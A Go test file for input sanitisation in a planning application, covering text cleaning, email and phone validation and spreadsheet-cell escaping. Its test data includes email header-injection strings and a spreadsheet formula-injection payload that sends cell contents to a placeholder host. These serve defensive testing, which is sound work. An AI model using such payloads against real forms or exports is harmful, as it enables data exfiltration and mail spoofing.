package kehoach

import (
	"strings"
	"testing"
)

// TestTextPolicy runs the policy on the values that broke PostgreSQL or
// slipped through (NUL, invalid UTF-8, control characters, zero-width only,
// over the limit, a line break in a one-line field) and on ones it cleans.
func TestTextPolicy(t *testing.T) {
	line := TextRuleFor("title")
	lines := TextRuleFor("text")
	for _, c := range []struct {
		name, in string
		rule     TextRule
		want     string
		bad      bool
	}{
		{"NUL", "A\x00B", line, "", true},
		{"invalid UTF-8", "A\xed\xa0\x80B", line, "", true},
		{"escape", "A\x1bB", line, "", true},
		{"bidi override", "A\u202eB", line, "", true},
		{"newline in one line", "A\nB", line, "", true},
		{"oversize", strings.Repeat("a", line.Max+1), line, "", true},
		{"zero-width only", "\u200b\u200c \u2060\ufeff", line, "", false},
		{"NFD to NFC", "Ke\u0302\u0301 hoa\u0323ch", line, "Kế hoạch", false},
		{"CRLF", "a\r\nb\rc", lines, "a\nb\nc", false},
		{"tab and newline", "a\tb\nc", lines, "a\tb\nc", false},
	} {
		got, p := CleanText(c.in, c.rule)
		if (p != "") != c.bad {
			t.Errorf("%s: problem %q, want bad %v", c.name, p, c.bad)
		}
		if !c.bad && got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
	if TextRuleFor("leadUnitId").Max != IDMax || TextRuleFor("contacts.1.name").Max != 300 {
		t.Error("rules by name")
	}
	in := struct {
		Title   string            `json:"title"`
		Units   []string          `json:"supportUnitIds"`
		Values  map[string]string `json:"values"`
		Contact []struct {
			Name string `json:"name"`
		} `json:"contacts"`
	}{Title: "\u200b", Units: []string{"a", strings.Repeat("x", 100000)}, Values: map[string]string{"so_tin": "1\x00"},
		Contact: []struct {
			Name string `json:"name"`
		}{{"ok"}, {"A\x07"}}}
	f := CheckTexts(&in)
	for _, k := range []string{"supportUnitIds", "values.so_tin", "contacts.1.name"} {
		if f[k] == "" {
			t.Errorf("no problem for %s: %v", k, f)
		}
	}
	if in.Title != "" || len(f) != 3 {
		t.Errorf("title %q, problems %v", in.Title, f)
	}
}

func TestEmailPhone(t *testing.T) {
	for _, s := range []string{"a@b.vn", "van.phong@sogtvt.sonla.gov.vn"} {
		if !ValidEmail(s) {
			t.Errorf("%q refused", s)
		}
	}
	for _, s := range []string{"a@b.vn\r\nBcc: x@y.z", "a@b.vn, c@d.vn", "A <a@b.vn>", "a@b", "ab.vn", "a@b.vn\nBcc:x@y.z"} {
		if ValidEmail(s) {
			t.Errorf("%q accepted", s)
		}
	}
	if !ValidPhone("0212 3850 111") || ValidPhone("0212\r\nBcc") || ValidPhone("12") {
		t.Error("phone")
	}
}

func TestSpreadsheetCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x.invalid/?"&A2,"Bấm")`: `'=HYPERLINK("http://x.invalid/?"&A2,"Bấm")`,
		"+1+2": "'+1+2", "-1+cmd": "'-1+cmd", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"-12,5": "-12,5", "Phòng Văn hóa": "Phòng Văn hóa", "": "",
	} {
		if got := SpreadsheetCell(in); got != want {
			t.Errorf("%q → %q, want %q", in, got, want)
		}
	}
}
